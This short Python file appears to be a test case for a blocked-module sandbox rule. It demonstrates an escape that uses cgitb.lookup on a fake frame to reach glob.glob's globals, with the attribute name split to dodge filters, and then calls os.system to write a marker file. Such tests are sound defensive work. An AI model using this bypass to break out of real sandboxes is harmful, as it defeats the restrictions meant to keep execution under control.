# rule: blocked_module
# marker: pwned_f1_cgitb
# Family 1: cgitb.lookup reads any attribute of the object a fake frame's
# `__builtins__` holds.
import cgitb
import glob

class Frame:
    f_globals = {"__builtins__": glob.glob}

kind, g = cgitb.lookup("__glo" + "bals__", Frame, {})
g["os"].system("echo ran > pwned_f1_cgitb")
